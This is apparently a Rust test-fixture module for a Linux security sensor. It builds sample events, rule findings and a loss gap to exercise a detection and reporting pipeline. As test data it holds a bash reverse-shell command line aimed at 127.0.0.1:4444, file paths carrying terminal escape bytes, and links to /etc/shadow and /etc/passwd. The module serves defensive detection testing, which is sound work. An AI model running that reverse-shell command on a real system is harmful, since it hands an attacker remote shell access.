//! Items for tests: one event of each kind with hostile bytes in it, a finding, a loss report, a gap. Included by the tests package, too, and
//! therefore written with the crate's outside name.
#![allow(unreachable_pub, dead_code)] // Two crates include it, and neither uses all of it.

use sensor::{
    events::{Body, Endpoint, Event, Field, FileRef, Outcome, Socket},
    finding::{Contribution, Finding, Level, RuleInfo, Score},
    process::{Container, Credentials, Image, Process, ProcessId},
    sink::{self, Gap, Item, Origin},
    text::Text,
};
use sensor_common::{EventKind, Tier, stats::Reason};
use std::sync::Arc;

/// 2026-11-21 00:12:33.123456789 UTC.
pub const WALL_NS: u64 = 1_795_219_953_123_456_789;
/// The container that `process` runs in, if any.
pub const CONTAINER: &str = "4f2c8a1e9b7d6c5a4f2c8a1e9b7d6c5a4f2c8a1e9b7d6c5a4f2c8a1e9b7d6c5a";

pub fn origin() -> Origin {
    Origin { boot_id: "0b4aa1c2-51c3-4e5c-9f0e-3d1a2b4c5d6e".into(), host_name: "web-1".into(), sensor_version: "0.1.0".into() }
}

pub fn image(executable: &str, args: &[&[u8]]) -> Image {
    Image {
        executable: Some(executable.into()),
        args: args.iter().map(|a| Text::from(*a)).collect(),
        command_line: Some(Text::from(args.join(&b' '))),
        working_directory: Some("/home/alice".into()),
        inode: 77,
        dev: 0x800001,
        mount_id: 30,
        args_bytes: args.iter().map(|a| a.len() as u64 + 1).sum(),
        ..Image::default()
    }
}

pub fn process(pid: u32, parent: u32, image: Option<Image>, comm: &str) -> Process {
    let id = |pid: u32| ProcessId { tgid: pid, start_ns: u64::from(pid) * 1_000_000 };
    Process {
        id: id(pid),
        parent: id(parent),
        tree: id(812),
        image: image.map(Arc::new),
        comm: comm.into(),
        credentials: Credentials {
            uid: 1000,
            gid: 1000,
            suid: 1000,
            sgid: 1000,
            euid: 1000,
            egid: 1000,
            login_uid: Some(1000),
            session_id: Some(3),
            ..Credentials::default()
        },
        user_name: Some("alice".into()),
        pid_ns: 4026531836,
        mnt_ns: 4026531841,
        cgroup_id: 4711,
        cgroup: Some("/user.slice/user-1000.slice/session-3.scope".into()),
        container: None,
    }
}

/// `bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'`, child of `-bash`.
pub fn shell() -> Process {
    let mut image = image("/usr/bin/bash", &[b"bash", b"-c", b"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]);
    image.invoked = Some("/bin/bash".into());
    process(4242, 4240, Some(image), "bash")
}

pub fn login_shell() -> Process {
    process(4240, 812, Some(image("/usr/bin/bash", &[b"-bash"])), "bash")
}

pub fn contained(mut process: Process) -> Process {
    process.container = Some(Arc::new(Container {
        id: CONTAINER.into(),
        runtime: "containerd",
        pod_uid: Some("5f1c2d3e-0000-4444-8888-123456789abc".into()),
    }));
    process
}

pub fn event(process: Process, body: Body) -> Event {
    Event {
        time_ns: 5_000_000_000,
        wall_ns: WALL_NS,
        tier: Tier::Kprobe,
        tid: process.id.tgid,
        process: Arc::new(process),
        parent: Some(Arc::new(login_shell())),
        body,
    }
}

pub fn file(path: &[u8]) -> FileRef {
    FileRef {
        path: Some(path.into()),
        raw: Some("../x".into()),
        from_kernel: true,
        complete: true,
        deleted: false,
        inode: 12,
        dev: 0x800001,
        mode: 0o100644,
        owner: Some(0),
    }
}

/// One body of each kind, in the order of the registry.
pub fn bodies() -> Vec<Body> {
    let ok = Outcome::Success(0);
    let inet = |ip: &str, port| Some(Endpoint::Ip(ip.parse().unwrap(), port));
    let socket = Socket {
        family: 2,
        kind: 1,
        protocol: 6,
        fd: Some(3),
        local: inet("127.0.0.1", 51000),
        remote: inet("127.0.0.1", 4444),
        from_kernel: true,
    };
    let v6 = Socket {
        family: 10,
        kind: 2,
        protocol: 17,
        fd: None,
        local: inet("::1", 53),
        remote: inet("2001:db8::7", 40000),
        from_kernel: false,
    };
    let unix = Socket {
        family: 1,
        kind: 1,
        local: Some(Endpoint::Unix("/run/x.sock".into())),
        remote: Some(Endpoint::Unix("@abstract".into())),
        ..Socket::default()
    };
    vec![
        Body::Exec { outcome: ok, image: shell().image.unwrap() },
        Body::Fork { child: Arc::new(process(4300, 4242, None, "bash")) },
        Body::Exit { code: Some(3), signal: None },
        Body::Connect { outcome: Outcome::Failure(libc::ECONNREFUSED), socket },
        Body::Accept { outcome: Outcome::Success(5), socket: v6 },
        Body::Bind { outcome: ok, socket: unix.clone() },
        Body::Listen { outcome: ok, socket: unix, backlog: 128 },
        Body::Open { outcome: Outcome::Success(3), file: file(b"/etc/cron.d/\x1b[31mevil\xff"), flags: 0o101, mode: 0o644, created: true },
        Body::Unlink {
            outcome: ok,
            file: FileRef { complete: false, from_kernel: false, raw: None, ..file(b"/tmp/a\nb") },
            directory: false,
        },
        Body::Rename { outcome: ok, old: file(b"/tmp/old"), new: file(b"/tmp/new"), flags: 1 },
        Body::Chmod { outcome: ok, file: file(b"/tmp/x"), mode: 0o4755 },
        Body::Chown { outcome: Outcome::Failure(libc::EPERM), file: file(b"/tmp/x"), owner: Some(0), group: None },
        Body::Link { outcome: ok, old: file(b"/etc/shadow"), new: file(b"/tmp/l") },
        Body::Symlink { outcome: Outcome::Unknown, target: "/etc/passwd".into(), link: file(b"/tmp/s") },
        Body::Loss { kind: EventKind::Open, reason: Reason::RingFull, count: 17 },
    ]
}

pub fn rule(id: &str, title: &str, level: Level) -> RuleInfo {
    RuleInfo {
        id: id.into(),
        title: title.into(),
        description: "Detects a bash that connects a shell to a socket".into(),
        author: "@d4ns4n_ (Wuerth-Phoenix), Florian Roth".into(),
        level,
        status: "test".into(),
        tags: vec!["attack.execution".into(), "attack.t1059.004".into()],
        techniques: vec!["T1059.004".into(), "T1071".into()],
        tactics: vec!["execution".into(), "command-and-control".into()],
        references: vec!["https://example.org/reverse-shells".into()],
        false_positives: vec!["Unknown".into()],
        source: "sigma/rules/linux/x.yml".into(),
    }
}

pub fn finding(event: Event, level: Level) -> Finding {
    let rule = Arc::new(rule("83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871", "Potential Linux Reverse Shell", level));
    let earlier = Arc::new(super_rule());
    let sshd = process(812, 1, Some(image("/usr/sbin/sshd", &[b"sshd: alice [priv]"])), "sshd");
    Finding {
        ancestors: vec![
            Arc::new(login_shell()),
            Arc::new(sshd),
            Arc::new(process(1, 0, Some(image("/usr/lib/systemd/systemd", &[b"/sbin/init"])), "systemd")),
        ],
        matched: vec![(
            Field::ProcessCommandLine,
            event.process.image.as_ref().and_then(|i| i.command_line.clone()).unwrap_or_else(|| "".into()),
        )],
        score: Score {
            tree: event.process.tree,
            points: level.points(),
            total: level.points() + 18.5,
            contributions: vec![
                Contribution { time_ns: 2_000_000_000, rule: earlier, process: event.process.parent, points: 20.0 },
                Contribution { time_ns: event.time_ns, rule: rule.clone(), process: event.process.id, points: level.points() },
            ],
            omitted: 2,
        },
        rules_version: "c0ffee".into(),
        event: Arc::new(event),
        rule,
    }
}

fn super_rule() -> RuleInfo {
    rule("00000000-0000-4000-8000-000000000001", "Decode Base64 Encoded Text", Level::Medium)
}

/// Each kind of event (half of them in a container), findings, a gap; numbered from 1.
pub fn items() -> Vec<Item> {
    let mut bodies: Vec<sink::Body> = bodies()
        .into_iter()
        .enumerate()
        .map(|(n, body)| sink::Body::Event(Arc::new(event(if n % 2 == 0 { shell() } else { contained(shell()) }, body))))
        .collect();
    let connect = self::bodies().swap_remove(3);
    bodies.push(sink::Body::Finding(Arc::new(finding(event(shell(), connect), Level::High))));
    let exec = self::bodies().swap_remove(0);
    bodies.push(sink::Body::Finding(Arc::new(finding(event(contained(shell()), exec), Level::Low))));
    let cgroup = Body::Cgroup { id: 77, path: "/kubepods/\x1b[31mevil".into(), container: contained(shell()).container };
    bodies.push(sink::Body::Event(Arc::new(event(shell(), cgroup))));
    let mut items: Vec<Item> = bodies.into_iter().zip(1..).map(|(body, sequence)| Item { sequence, body }).collect();
    items.push(Item { sequence: 0, body: sink::Body::Gap(Gap { count: 3, first: 19, last: 21 }) });
    items
}
